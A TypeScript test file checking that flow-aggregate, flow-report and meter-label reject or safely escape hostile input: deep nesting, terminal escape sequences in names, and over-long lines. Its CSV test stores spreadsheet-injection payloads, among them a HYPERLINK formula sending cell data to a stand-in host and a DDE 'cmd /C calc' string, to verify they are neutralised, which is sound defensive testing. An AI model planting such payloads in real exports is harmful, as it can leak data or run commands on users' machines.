// Input made to break things, through the real binaries: filters nested thousands deep, JSON
// values nested deeper than the stack, control characters in label names and file names,
// spreadsheet formulas in label text, and an over-long line. Each must end in a usage or data
// error that names the place, never an internal error (70), a raw escape on the terminal or a
// miscount.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../helpers/tmp.js';
import { runBin } from '../helpers/spawn.js';

const dir = tempDir('hostile-');
const FLOW =
  '{"type":"SFLOW_5","time_received_ns":1700000000000000000,"bytes":60,"packets":1,"src_addr":"10.5.1.2","dst_addr":"8.8.8.8","proto":"TCP"}';
const flowsFile = join(dir, 'flows.ndjson');
writeFileSync(flowsFile, `${FLOW}\n${FLOW}\n`);

/** No byte of a control character other than the line ends we write. */
function assertNoRawControls(text: string): void {
  assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, JSON.stringify(text));
}

test('a filter nested 5,000 parentheses deep is a usage error at the column of the 257th, not a stack overflow', async () => {
  const deep = `${'('.repeat(5000)}tcp${')'.repeat(5000)}`;
  const agg = await runBin('flow-aggregate', ['-a', 'src_host', '-f', deep, flowsFile]);
  assert.equal(agg.code, 64, agg.stderr.slice(0, 300));
  assert.equal(agg.stdout, '');
  const lines = agg.stderr.split('\n');
  assert.equal(lines[0], 'flow-aggregate: --filter: expression nested more than 256 levels deep at column 257');
  assert.equal(lines[1], `  …${'('.repeat(100)}…`);
  assert.equal(lines[2], `  ${' '.repeat(51)}^`);
  const rep = await runBin('flow-report', ['-a', 'src_host', '-f', `${'not '.repeat(5000)}tcp`, flowsFile]);
  assert.equal(rep.code, 64, rep.stderr.slice(0, 300));
  assert.match(rep.stderr, /^flow-report: --filter: expression nested more than 256 levels deep at column 1025\n/);
  // the same limit in a pmacct config file is a configuration error naming file and line
  const conf = join(dir, 'deep.conf');
  writeFileSync(conf, `aggregate[x]: src_host\naggregate_filter[x]: ${deep}\n`);
  const cfg = await runBin('flow-aggregate', ['-c', conf, flowsFile]);
  assert.equal(cfg.code, 78, cfg.stderr.slice(0, 300));
  assert.match(
    cfg.stderr,
    /deep\.conf:2: aggregate_filter: expression nested more than 256 levels deep at column 257\n/,
  );
  // 256 levels, and a flat chain of 5,000 alternatives (an argument may hold 128 KiB), are fine
  const ok = await runBin('flow-aggregate', ['-a', 'none', '-f', `${'('.repeat(256)}tcp${')'.repeat(256)}`, flowsFile]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal((JSON.parse(ok.stdout) as { flows: number }).flows, 2);
  const chain = Array.from({ length: 5000 }, (_, i) => `host 192.168.${i >> 8}.${i & 255}`)
    .concat('host 8.8.8.8')
    .join(' or ');
  const long = await runBin('flow-aggregate', ['-a', 'none', '-f', chain, flowsFile]);
  assert.equal(long.code, 0, long.stderr);
  assert.equal((JSON.parse(long.stdout) as { flows: number }).flows, 2);
});

test('a field value nested 100,000 levels deep is a rejected line (65), in every NDJSON reader', async () => {
  const deep = join(dir, 'deep.ndjson');
  writeFileSync(deep, `${FLOW}\n{"type":"IPFIX","bytes":${'['.repeat(100_000)}${']'.repeat(100_000)}}\n`);
  const message = `${deep}:2: field "bytes": expected a non-negative integer (got ${'['.repeat(40)}…)`;
  for (const [cmd, args] of [
    ['flow-aggregate', ['-a', 'none']],
    ['flow-report', []],
  ] as const) {
    const r = await runBin(cmd, [...args, deep]);
    assert.equal(r.code, 65, `${cmd}: ${r.stderr}`);
    assert.deepEqual(r.stderr.trimEnd().split('\n'), [
      `${cmd}: ${message}`,
      `${cmd}: 1 of 2 lines rejected (first: ${deep}:2)`,
    ]);
  }
  const db = join(dir, 'deep-store.json');
  const ml = (...a: string[]): ReturnType<typeof runBin> => runBin('meter-label', ['--db', db, ...a]);
  assert.equal((await ml('create', 'x')).code, 0);
  const count = await ml('count', deep);
  assert.equal(count.code, 65, count.stderr);
  assert.match(count.stderr, new RegExp(`^meter-label: ${deep.replace(/[.]/g, '\\.')}:2: field "bytes"`, 'm'));
  const doc = join(dir, 'deep-label.json');
  writeFileSync(doc, `{"metering_label":{"name":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`);
  const imp = await ml('import', doc);
  assert.equal(imp.code, 65, imp.stderr);
  assert.equal(
    imp.stderr,
    `meter-label: ${doc}: label #1: Invalid input for name. Reason: ${'['.repeat(40)}… is not a valid string.\n`,
  );
});

test('control characters in label names, file names and arguments are shown as escapes, never sent raw', async () => {
  const db = join(dir, 'controls.json');
  const ml = (...a: string[]): ReturnType<typeof runBin> => runBin('meter-label', ['--db', db, ...a]);
  const name = 'evil\x1b[2J\x1b]0;owned\x07\rname\nmeter-label: all good';
  const shown = 'evil\\x1b[2J\\x1b]0;owned\\x07\\rname\\nmeter-label: all good';
  let r = await ml('create', name, '--description', 'tab\there');
  assert.equal(r.code, 0, r.stderr);
  assertNoRawControls(r.stdout.replace(/\n/g, ''));
  assert.match(r.stdout, new RegExp(`\\| name        \\| ${shown.replace(/[\\[\]|]/g, '\\$&')} \\|\n`));
  r = await ml('list');
  assertNoRawControls(r.stdout.replace(/\n/g, ''));
  assert.equal(r.stdout.split('\n').length, 6, 'one table row for the label');
  assert.ok(r.stdout.includes(`| ${shown} | tab\\there   |`), r.stdout);
  r = await ml('list', '-f', 'value');
  assert.match(r.stdout, new RegExp(`^[0-9a-f-]{36} ${shown.replace(/[\\[\]|]/g, '\\$&')} tab\\\\there False\n$`));
  r = await ml('list', '-f', 'json');
  assert.equal((JSON.parse(r.stdout) as Array<{ name: string }>)[0]!.name, name, 'json keeps the exact text');
  r = await ml('show', `${name}x`);
  assert.equal(r.code, 1);
  assert.equal(r.stderr, `meter-label: Unable to find metering_label with name or id '${shown}x'\n`);
  r = await ml(`\x1b[31m${name}`);
  assert.equal(r.code, 64);
  assert.equal(
    r.stderr,
    `meter-label: Unknown argument: \\x1b[31m${shown}\nTry 'meter-label --help' for more information.\n`,
  );
  r = await ml('delete', name);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout, `Deleted metering_label(s): ${shown}\n`);
  const missing = join(dir, 'no\x1b[2Jsuch\nfile.ndjson');
  r = await runBin('flow-aggregate', ['-a', 'none', missing]);
  assert.equal(r.code, 66);
  assertNoRawControls(r.stderr.slice(0, -1));
  assert.ok(r.stderr.includes('no\\x1b[2Jsuch\\nfile.ndjson'), r.stderr);
  r = await runBin('flow-aggregate', ['-a', 'none', '-f', 'tcp and \x1b[2J']);
  assert.equal(r.code, 64);
  assert.equal(r.stderr.split('\n').length, 4, r.stderr);
  assertNoRawControls(r.stderr.replace(/\n/g, ''));
});

test('meter-label -f csv: text that a spreadsheet would run gets a leading quote; numbers, booleans and prefixes stay', async () => {
  const db = join(dir, 'csv.json');
  const ml = (...a: string[]): ReturnType<typeof runBin> => runBin('meter-label', ['--db', db, ...a]);
  const texts = [
    '=HYPERLINK("http://x.example/?"&A1,"bill")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\tx',
    '\rx',
    'plain',
    "'=quoted",
  ];
  for (const [i, t] of texts.entries())
    assert.equal((await ml('create', `l${i}`, `--description=${t}`, ...(i === 0 ? ['--shared'] : []))).code, 0);
  let r = await ml('list', '-f', 'csv', '-c', 'name', '-c', 'description', '-c', 'shared');
  assert.equal(r.code, 0, r.stderr);
  assert.equal(
    r.stdout,
    [
      '"name","description","shared"',
      `"l0","'=HYPERLINK(""http://x.example/?""&A1,""bill"")",True`,
      `"l1","'+1+cmd|' /C calc'!A0",False`,
      `"l2","'-2+3",False`,
      `"l3","'@SUM(A1:A9)",False`,
      `"l4","'\tx",False`,
      `"l5","'\rx",False`,
      '"l6","plain",False',
      `"l7","'=quoted",False`,
      '',
    ].join('\n'),
  );
  r = await ml('show', 'l2', '-f', 'csv', '-c', 'description');
  assert.equal(r.stdout, `"description"\n"'-2+3"\n`);
  // the table shows the text as stored
  r = await ml('show', 'l0', '-c', 'description', '-f', 'value');
  assert.equal(r.stdout, '=HYPERLINK("http://x.example/?"&A1,"bill")\n');
  // addresses in rules are not text a spreadsheet runs: unchanged
  assert.equal((await ml('rule-create', 'l6', '--remote-ip-prefix', '2001:db8::/32', '--egress')).code, 0);
  assert.equal((await ml('rule-create', 'l6', '--source-ip-prefix', '10.0.0.0/8')).code, 0);
  r = await ml('rule-list', '-f', 'csv', '-c', 'remote_ip_prefix', '-c', 'source_ip_prefix', '-c', 'excluded');
  assert.equal(
    r.stdout,
    '"excluded","remote_ip_prefix","source_ip_prefix"\n' +
      'False,"2001:db8::/32","None"\n' +
      'False,"None","10.0.0.0/8"\n',
  );
});

test('an over-long line is counted among the lines read: "1 of 3 lines rejected", not "1 of 0"', async () => {
  const long = join(dir, 'long.ndjson');
  writeFileSync(long, `${FLOW}\n${FLOW}\n{"pad":"${'x'.repeat((1 << 20) + 10)}"}\n${FLOW}\n`);
  for (const [cmd, args] of [
    ['flow-aggregate', ['-a', 'none']],
    ['flow-report', ['-a', 'none', '--format', 'ndjson']],
  ] as const) {
    const r = await runBin(cmd, [...args, long]);
    assert.equal(r.code, 65, `${cmd}: ${r.stderr}`);
    assert.deepEqual(r.stderr.trimEnd().split('\n'), [
      `${cmd}: ${long}:3: line 3 is longer than 1048576 bytes; rest of ${long} skipped`,
      `${cmd}: 1 of 3 lines rejected (first: ${long}:3)`,
    ]);
    assert.equal((JSON.parse(r.stdout) as { flows: number }).flows, 2, `${cmd}: the two lines before it are counted`);
  }
  // the over-long line alone on stdin, in many pieces
  const r = await runBin('flow-aggregate', ['-a', 'none'], { input: `{"pad":"${'x'.repeat(3 << 20)}"}` });
  assert.equal(r.code, 65);
  assert.match(r.stderr, /flow-aggregate: 1 of 1 lines rejected \(first: stdin:1\)\n$/);
});
